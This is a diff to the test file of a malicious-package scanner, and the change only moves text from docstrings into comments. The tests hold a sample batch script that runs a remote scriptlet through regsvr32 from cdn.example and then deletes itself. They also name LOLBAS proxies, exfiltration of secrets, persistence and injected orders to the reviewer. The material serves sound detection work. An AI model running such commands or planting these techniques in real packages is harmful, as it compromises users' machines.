@@ -191,8 +191,8 @@ def test_encoded_payload_in_an_added_line_is_decoded():
 
 
 def test_a_script_inside_a_string_literal_is_read_across_its_escapes():
-    """A batch script kept in a Python string ("...\\nregsvr32 ...") is read word by word: the escape
-    does not glue its last letter to the next command, and the evidence span is the command's own."""
+    """A batch script in a Python string is read word by word across its escapes, with the command's span."""
+    # The "\n" escape does not glue its last letter to the next command ("...\nregsvr32 ...").
     body = "BAT = '@echo off\\nregsvr32 /s /i:https://cdn.example/x.sct scrobj.dll\\ndel %0'"
     diff = new_file("pkg/win.py", body)
     found = {e.rule_id: e for e in run_precheck(diff, POLICY).evidence}
@@ -244,8 +244,9 @@ REFLECTIVE_AND_DECODED_COMMANDS = cases("malicious-package", "reflective-and-dec
     + REFLECTIVE_AND_DECODED_COMMANDS,
 )
 def test_guarddog_family_techniques_block_alone(path, body, rule):
-    """Indirect API calls, download-and-chmod, stego exec, process injection, Node core APIs reached by
-    reflection and commands run straight from decoded bytes each block alone."""
+    """Each GuardDog-family technique blocks alone."""
+    # Indirect API calls, download-and-chmod, stego exec, process injection, Node core APIs reached by
+    # reflection, commands run straight from decoded bytes.
     result = run_precheck(new_file(path, body), POLICY)
     assert result.verdict == "harmful"
     assert rule in {e.rule_id for e in result.evidence}
@@ -292,8 +293,9 @@ DECODED_EXEC_AND_EXFIL = cases("malicious-package", "decoded-exec-and-exfil.json
     + DECODED_EXEC_AND_EXFIL,
 )
 def test_guarddog_family_signals_make_the_rules_detector_vote(path, body, rule):
-    """Hidden processes, LOLBAS proxies, shady links, obfuscation idioms, exec of decoded values,
-    chmod-and-run, secrets posted from Ruby/Go, DNS labels and bidi controls reach the voting threshold."""
+    """Each GuardDog-family signal reaches the rules detector's voting threshold."""
+    # Hidden processes, LOLBAS proxies, shady links, obfuscation idioms, exec of decoded values,
+    # chmod-and-run, secrets posted from Ruby/Go, DNS labels and bidi controls.
     result = run_precheck(new_file(path, body), POLICY)
     assert rule in {e.rule_id for e in result.evidence}
     assert result.score >= 0.5 * POLICY.precheck.block_score
@@ -417,8 +419,9 @@ def test_lookalikes_of_the_new_rules_stay_below_the_vote(path, body):
     ],
 )
 def test_a_statement_about_not_reporting_is_not_an_order_to_the_reviewer(body, order):
-    """ "We don't flag the view" describes code; "Do not mention the postinstall" orders the reader: a
-    subject before the negation makes it a statement (a reader addressed by name is not a subject)."""
+    """A subject before the negation makes a statement, not an order to the reviewer."""
+    # "We don't flag the view" describes code; "Do not mention the postinstall" orders the reader
+    # (a reader addressed by name is not a subject).
     found = {e.rule_id for e in run_precheck(new_file("pkg/view.js", body), POLICY).evidence}
     assert ("mp.argues.suppress-or-force" in found) is order
 
@@ -439,8 +442,8 @@ def test_a_statement_about_not_reporting_is_not_an_order_to_the_reviewer(body, o
     ],
 )
 def test_crontab_counts_as_a_command_or_a_path_not_as_a_word(body, persists):
-    """Writing a crontab is persistence; a scheduler's ``crontab()`` or an error message naming
-    crontab syntax is not (celery's own release tripped the rules vote on the word)."""
+    """Writing a crontab is persistence; a scheduler's crontab() or an error message naming it is not."""
+    # celery's own release tripped the rules vote on the word.
     found = {e.rule_id for e in run_precheck(new_file("pkg/tasks.py", body), POLICY).evidence}
     assert ("mp.persistence" in found) is persists
 
@@ -450,8 +453,8 @@ def test_crontab_counts_as_a_command_or_a_path_not_as_a_word(body, persists):
     [("setup.py", True), ("install.sh", True), ("README.rst", False), ("docs/shell.md", False)],
 )
 def test_appending_to_a_shell_rc_file_is_persistence_in_code_not_in_docs(path, persists):
-    """``echo ... >> ~/.bashrc`` run by a setup script persists; the same line shown in a README is an
-    instruction to the person installing (nodeenv's shell-completion docs tripped the rules vote)."""
+    """Appending to ~/.bashrc from a setup script persists; the same line in a README does not vote."""
+    # nodeenv's shell-completion docs tripped the rules vote.
     body = "    echo 'source ~/.local/share/bash_completion/tool' >> ~/.bashrc"
     found = {e.rule_id for e in run_precheck(new_file(path, body), POLICY).evidence}
     assert ("mp.persistence" in found) is persists
@@ -484,9 +487,9 @@ def test_bidi_marks_and_controls_inside_right_to_left_text_are_not_trojan_source
 
 
 def test_weak_signals_across_a_large_release_do_not_add_up():
-    """A shell one-liner that runs a command's output (0.8) and a high-entropy string (0.3) in
-    one small release add up to a block; the same two files with 140 KB of code between them
-    (a large release, where such coincidences are common) do not."""
+    """Two weak signals block in a small release and not with 140 KB of code between them."""
+    # A shell one-liner running a command's output (0.8) and a high-entropy string (0.3); in a large
+    # release such coincidences are common.
     shell = new_file(
         "scripts/completion.ps1", 'Invoke-Expression -OutVariable out "$RequestComp" 2>&1 | Out-Null'
     )
@@ -556,8 +559,9 @@ def test_spec_techniques_are_blocked_by_the_precheck(path, body, rule):
     ],
 )
 def test_lookalikes_of_spec_techniques_stay_below_the_vote(path, body):
-    """A bundled native library, a JSON fetch, a plugin import, a clipboard helper, an SSH key used
-    for SSH, a hotkey listener and git or repository URLs don't vote."""
+    """Harmless look-alikes of the spec's techniques do not vote."""
+    # A bundled native library, a JSON fetch, a plugin import, a clipboard helper, an SSH key used for
+    # SSH, a hotkey listener, git or repository URLs.
     assert run_precheck(new_file(path, body), POLICY).score < 0.5 * POLICY.precheck.block_score
 
 
